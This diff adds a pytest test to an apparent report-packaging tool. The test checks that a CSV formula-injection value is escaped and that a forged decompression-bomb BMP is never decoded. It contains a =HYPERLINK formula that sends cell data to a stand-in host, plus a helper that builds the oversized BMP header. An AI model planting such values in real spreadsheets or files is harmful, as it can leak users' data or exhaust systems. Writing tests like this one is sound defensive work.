@@ -235,3 +235,47 @@ def test_photos_for_mail_are_upright_flat_small_and_without_metadata(tmp_path):
     transparent.save(tmp_path / "clear.png")
     flat = Image.open(io.BytesIO(photo_for_mail(tmp_path / "clear.png")))
     assert flat.mode == "RGB" and flat.getpixel((10, 10)) == (255, 255, 255)
+
+
+def _bmp_header(width: int, height: int) -> bytes:
+    """A BMP that says it is ``width`` × ``height`` (a decompression bomb: gigabytes decoded)."""
+    import struct
+
+    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
+    return b"BM" + struct.pack("<IHHI", 14 + len(info) + 64, 0, 0, 14 + len(info)) + info + bytes(64)
+
+
+@pytest.mark.kernel
+@pytest.mark.pdf
+def test_the_index_shows_a_unit_named_like_a_formula_as_text_and_a_bmp_is_never_opened(tmp_path):
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
+    folder = tmp_path / "results"
+    shutil.copytree(RESULTS, folder)
+    units = folder / "units.csv"
+    with units.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle))
+    rows[1][1] = hostile  # unit "so", typed by hand into units.csv
+    with units.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows(rows)
+    bomb = _bmp_header(60_000, 60_000)
+    (folder / "evidence" / "scan.bmp").write_bytes(bomb)
+    activities = folder / "activities.csv"
+    text = activities.read_text(encoding="utf-8")
+    activities.write_text(
+        text.replace(
+            "H2,so,2022-05-17,web_article,3,1.200,2.500,2,,",
+            "H2,so,2022-05-17,web_article,3,1.200,2.500,2,evidence/scan.bmp,",
+        ),
+        encoding="utf-8",
+    )
+    built = tmp_path / "out"
+    build_campaign(folder, built, "--doc", "report", "--to", "pdf,docx")
+    out = tmp_path / "p.zip"
+    result = _package(folder, built, out)
+    assert result.returncode == 0, result.stderr
+    entries = _entries(out)
+    assert entries["other/H2-scan.bmp"] == bomb  # as it is: media.py does not count it a photo
+    index = entries["index.csv"].decode("utf-8-sig")
+    assert "'=HYPERLINK(" in index and ",=HYPERLINK(" not in index
+    [row] = [row for row in _index(entries) if row["activity_id"] == "H2"]
+    assert row["unit"] == "'" + hostile and row["size_bytes"] == str(len(bomb))
